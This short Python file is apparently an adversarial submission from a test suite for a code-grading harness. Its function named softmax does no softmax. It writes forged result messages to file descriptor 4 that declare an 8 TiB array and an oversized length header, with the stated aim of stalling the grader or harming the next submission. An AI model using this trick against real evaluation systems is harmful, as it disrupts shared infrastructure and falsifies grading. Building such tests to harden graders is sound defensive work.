"""Tries: to announce an array of 8 TiB, and a text of 4 GB.
Won if: stall: it costs more than its own limit, or the next submission suffers.
Naive grader: unharmed.
"""

import json
import os
import struct

array = {"kind": "array", "dtype": "<f8", "shape": [1 << 20, 1 << 20], "order": "C", "readonly": False}
CLAIMS = [
    json.dumps({"call": call, "status": "returned", "result_size": 0, "result": array, "arguments_after": {"kind": "tuple", "parts": []}})
    for call in range(1, 9)
]


def softmax(scores, axis=-1):
    for claim in CLAIMS:
        try:
            os.write(4, struct.pack("!II", len(claim), 0) + claim.encode())
            os.write(4, struct.pack("!II", 0xFFFFFFFF, 0xFFFFFFFF))
        except OSError:
            pass
    return scores
